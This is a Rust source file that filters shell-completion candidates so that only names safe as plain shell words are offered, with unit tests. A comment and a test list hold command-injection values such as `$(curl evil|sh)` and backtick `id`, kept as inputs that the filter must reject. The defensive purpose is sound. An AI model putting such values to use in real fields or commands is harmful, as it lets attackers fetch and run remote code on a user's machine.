//! Candidates for the completion of a name.

use std::ffi::OsStr;

use clap_complete::CompletionCandidate;

use crate::context;

/// The names of contexts.
pub(crate) fn contexts(current: &OsStr) -> Vec<CompletionCandidate> {
    let all = context::path().and_then(|path| context::load(&path));
    let names = all.map(|all| all.contexts.into_keys().collect());
    matching(names.unwrap_or_default(), current)
}

/// The names that begin as the word does and that every shell takes as one plain word.
///
/// A shell puts a candidate into the command line as it is. Others choose ids: one such as `$(curl evil)`
/// would be run.
pub(crate) fn matching(names: Vec<String>, current: &OsStr) -> Vec<CompletionCandidate> {
    let begun = current.to_string_lossy();
    let fit = names
        .into_iter()
        .filter(|name| name.starts_with(&*begun) && is_plain(name));
    fit.map(CompletionCandidate::new).collect()
}

/// Whether no shell reads anything into a word: it holds letters, digits and harmless marks, and is not
/// taken for an option.
fn is_plain(word: &str) -> bool {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_./:@%+=,-".contains(&byte);
    word.bytes().all(plain) && !word.starts_with('-')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_is_completed_from_its_beginning() {
        let names = ["billing", "shipping"].map(str::to_owned).to_vec();
        let fit = matching(names, OsStr::new("b"));
        let fit: Vec<_> = fit.iter().map(CompletionCandidate::get_value).collect();
        assert_eq!(fit, ["billing"]);
    }

    #[test]
    fn a_name_that_a_shell_would_run_is_not_offered() {
        let names = [
            "order-7",
            "a/b:c@d%e+f=g,h.i_j",
            "$(curl evil|sh)",
            "`id`",
            "a b",
            "a;b",
            "a&b",
            "a'b",
            "a\"b",
            "a\\b",
            "a*b",
            "a?b",
            "a[b",
            "a{b",
            "a~b",
            "a!b",
            "a#b",
            "a<b",
            "a>b",
            "a(b",
            "a|b",
            "a^b",
            "ä",
            "a\nb",
            "--force",
        ];
        let fit = matching(names.map(str::to_owned).to_vec(), OsStr::new(""));
        let fit: Vec<_> = fit.iter().map(CompletionCandidate::get_value).collect();
        assert_eq!(fit, ["order-7", "a/b:c@d%e+f=g,h.i_j"]);
    }
}
